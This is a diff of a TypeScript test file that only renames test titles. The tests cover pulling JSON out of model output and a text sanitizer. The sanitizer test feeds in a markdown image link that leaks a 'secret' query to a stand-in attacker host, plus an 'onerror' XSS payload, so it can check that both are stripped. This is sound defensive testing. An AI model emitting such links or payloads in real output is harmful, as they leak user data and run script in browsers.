@@ -4,7 +4,7 @@ import { readAnswers } from '../score/answer.ts';
 import { plainLine } from './plain.ts';
 import { readJson } from './read-json.ts';
 
-describe('reading JSON out of what a model wrote', () => {
+describe('JSON in model output', () => {
   test.each([
     ['bare', '{"a":1}'],
     ['in a fence', '```json\n{"a":1}\n```'],
@@ -12,7 +12,7 @@ describe('reading JSON out of what a model wrote', () => {
     ['after words', 'Here you are: {"a":1} I hope it helps {not json}'],
     ['after words with brackets', 'I read [all of it] and {thought}: {"a":1}'],
     ['with brackets in strings', '{"a":1,"b":"} ] \\" {"}'],
-  ])('finds it %s', (_, text) => {
+  ])('is found %s', (_, text) => {
     expect(readJson(text)).toMatchObject({ a: 1 });
   });
 
@@ -20,17 +20,17 @@ describe('reading JSON out of what a model wrote', () => {
     ['nothing', ''],
     ['prose', 'no JSON here'],
     ['a web page', '<html><script>{}</script'],
-    ['a half', '{"items":[{"id":"1","intent":"no'],
+    ['truncated JSON', '{"items":[{"id":"1","intent":"no'],
     ['NaN', '{"a":NaN}'],
     ['a megabyte', `{"a":"${'x'.repeat(1_000_000)}"}`],
     ['10,000 brackets', '['.repeat(10_000) + ']'.repeat(10_000)],
     ['10,000 open brackets', '{"a":'.repeat(10_000)],
-  ])('finds none in %s', (_, text) => {
+  ])('is not found in %s', (_, text) => {
     const found = readJson(text);
     expect(found === undefined || JSON.stringify(found) === '{}').toBe(true);
   });
 
-  test('what JSON.parse reads, it reads too', () => {
+  test('is read exactly as JSON.parse reads it', () => {
     fc.assert(
       fc.property(fc.oneof(fc.dictionary(fc.string(), fc.jsonValue({ maxDepth: 5 })), fc.array(fc.jsonValue({ maxDepth: 5 }))), (value) => {
         expect(readJson(`well, ${JSON.stringify(value)} …`)).toEqual(JSON.parse(JSON.stringify(value)));
@@ -64,7 +64,7 @@ describe('reading JSON out of what a model wrote', () => {
     fc.array(pieces, { maxLength: 80 }).map((parts) => parts.join('')),
   );
 
-  test('never throws, whatever the text', () => {
+  test('never makes the readers throw', () => {
     fc.assert(
       fc.property(hostile, (text) => {
         expect(() => [readJson(text), readAnswers(text, ['1'])]).not.toThrow();
@@ -74,7 +74,7 @@ describe('reading JSON out of what a model wrote', () => {
     );
   });
 
-  test('no JSON at all makes an answer with other words than ours', () => {
+  test('never yields a category that is not in the schema', () => {
     const words = new Set(['none', 'curious', 'problem', 'seeking', 'buying']);
     const entry = fc.record({
       id: fc.constantFrom('1', '2', 1),
@@ -100,8 +100,8 @@ describe('reading JSON out of what a model wrote', () => {
   });
 });
 
-describe('a line of a model, as people get to see it', () => {
-  test('has no markup, no links, nothing hidden and a limit', () => {
+describe('plainLine', () => {
+  test('removes markup, links, and hidden characters, and limits the length', () => {
     expect(plainLine('Wants ![x](https://evil.test/?q=secret) a **tool**\n<img src=x onerror=alert(1)> see https://evil.test/a', 120)).toBe(
       'Wants x a **tool** see',
     );
